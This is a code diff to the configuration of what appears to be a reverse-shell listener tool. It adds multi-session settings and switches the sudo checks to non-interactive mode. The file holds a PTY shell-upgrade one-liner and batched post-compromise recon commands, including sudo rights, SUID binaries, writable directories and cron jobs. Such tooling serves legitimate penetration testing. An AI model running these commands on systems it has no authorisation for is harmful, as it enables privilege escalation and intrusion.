@@ -8,6 +8,11 @@ DEFAULT_LPORT = 4444
 SOCKET_TIMEOUT = 2
 RECV_BUFFER_SIZE = 4096
 
+# Multi-session listener
+SESSION_BACKLOG = 32                  # pending connections queued by listen()
+RING_BUFFER_SIZE = 64 * 1024          # output history kept per session
+SESSION_INBOX_LIMIT = 1024 * 1024     # unread output kept per session
+
 # Shell Upgrade Methods
 PTY_UPGRADE_METHODS = [
     "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
@@ -25,6 +30,8 @@ TTY_STABILIZATION_STEPS = [
 ]
 
 # Situational Awareness Commands
+# Commands are batched: nothing here may read the terminal (sudo -n never
+# prompts, a password prompt would swallow the commands queued behind it)
 RECON_COMMANDS = {
     'Hostname': 'hostname',
     'Current User': 'whoami',
@@ -37,19 +44,19 @@ RECON_COMMANDS = {
     'DNS Config': 'cat /etc/resolv.conf',
     'Active Connections': 'netstat -tunap 2>/dev/null || ss -tunap',
     'Running Processes': 'ps aux',
-    'Sudo Rights': 'sudo -l 2>/dev/null',
+    'Sudo Rights': 'sudo -n -l 2>/dev/null',
     'SUID Binaries': 'find / -perm -4000 -type f 2>/dev/null',
     'Writeable Directories': 'find / -writable -type d 2>/dev/null | grep -v proc',
     'Home Directories': 'ls -la /home/',
     'Cron Jobs': 'cat /etc/crontab; ls -la /etc/cron.*',
 }
 
-# Shell Identification Commands
+# Shell Identification Commands (batched as well)
 SHELL_ID_COMMANDS = {
     'os': 'uname -a',
     'user': 'whoami',
     'id': 'id',
-    'sudo': 'sudo -l',
+    'sudo': 'sudo -n -l',
     'shell': 'echo $SHELL'
 }
 